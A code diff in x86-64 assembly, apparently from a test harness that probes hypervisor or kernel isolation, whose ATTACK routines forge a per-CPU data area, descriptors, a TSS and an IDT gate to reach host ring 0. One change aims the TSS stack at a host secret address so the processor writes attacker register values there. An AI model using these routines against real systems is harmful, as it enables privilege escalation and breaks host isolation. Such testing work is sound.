@@ -9,6 +9,7 @@
  */
 ATTACK  forge_pda
         movq    $VIRT(PAGES_PA), %rdi
+        TOUCH   pda_payload
         leaq    pda_payload(%rip), %rax
         call    fake_descriptor
         movq    PARAMS + AP_PDA, %rbx
@@ -40,6 +41,7 @@ ATTACK  forge_descriptor
         call    1f
         END
 1:      addq    PARAMS + AP_TRAP_OFFSET, %rbx
+        TOUCH   descriptor_payload
         leaq    descriptor_payload(%rip), %rax
         movq    %rax, %rdi
         TRY     movq %rdi, (%rbx)
@@ -50,14 +52,19 @@ ATTACK  forge_descriptor
 2:      ret
         PAYLOAD descriptor_payload
 
-/* The TSS: the stack that the processor takes for the next event. At 0 there is no room for a frame, and no host left. */
+/*
+ * The TSS: the stack that the processor takes for the next event. In the middle of a frame of the host's, say, where the processor writes with
+ * ring 0's rights what the attacker has in the registers.
+ */
 ATTACK  forge_tss
         movq    PARAMS + AP_TSS, %rbx
-        TRY     movq $0, 4(%rbx)
+        movq    PARAMS + AP_SECRET_VA, %rdi
+        addq    $0x800, %rdi
+        TRY     movq %rdi, 4(%rbx)
         cmpl    $-1, %r12d
         jne     1f
-        REPORT  R_WROTE, %rbx, $0
-        ud2
+        REPORT  R_WROTE, %rbx, %rdi
+        TRY     ud2
 1:      END
 
 /* A gate for INT 0x40 of our own, to the host's code segment, which everybody may use. */
@@ -69,6 +76,7 @@ ATTACK  forge_idt
         call    1f
         END
 1:      addq    $(0x40 * 16), %rbx
+        TOUCH   forge_payload
         leaq    forge_payload(%rip), %rax
         movzwl  %ax, %ecx
         orl     $0x100000, %ecx         /* the host's code segment */
